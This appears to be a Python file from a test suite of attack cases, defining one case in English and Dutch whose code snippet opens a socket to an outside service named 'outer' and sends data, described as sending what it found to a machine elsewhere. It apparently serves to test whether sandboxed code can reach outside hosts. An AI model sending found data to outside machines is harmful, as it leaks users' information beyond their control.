"""Sends what it found to a machine elsewhere."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Stuurt wat het vond naar een machine elders.",
    code="""
import socket
with socket.create_connection(SERVICES["outer"], timeout=1) as there:
    there.sendall(b"hello")
    print(there.recv(1000).decode())
""",
)
